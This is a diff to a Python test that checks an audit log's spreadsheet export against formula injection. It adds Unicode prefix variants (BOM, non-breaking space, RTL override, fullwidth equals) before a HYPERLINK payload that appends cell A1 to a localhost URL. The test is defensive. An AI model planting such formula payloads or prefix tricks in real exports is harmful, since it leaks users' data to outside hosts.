@@ -73,7 +73,7 @@ async def test_a_line_is_as_the_api_shows_the_act() -> None:
     }
 
 
-@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", " ="])
+@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\xa0=", "\ufeff@", "\u202e=", "\uff1d"])
 async def test_no_cell_begins_like_a_formula(first: str) -> None:
     audit = MemoryAuditLog()
     evil = f'{first}HYPERLINK("http://127.0.0.1/?"&A1,"x")'
